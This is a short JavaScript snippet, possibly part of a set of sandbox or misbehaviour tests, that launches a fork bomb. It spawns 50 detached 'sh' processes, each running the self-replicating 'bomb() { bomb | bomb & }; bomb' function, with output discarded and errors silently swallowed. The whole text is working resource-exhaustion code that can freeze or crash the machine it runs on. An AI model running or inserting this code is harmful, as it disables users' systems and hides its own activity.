// Makes as many processes as it can, each of which does the same.
{
  const { spawn } = process.getBuiltinModule("child_process");
  const script = "bomb() { bomb | bomb & }; bomb";
  for (let number = 0; number < 50; number += 1) {
    tried(() => spawn("sh", ["-c", script], { detached: true, stdio: "ignore" }).on("error", () => {}));
  }
}
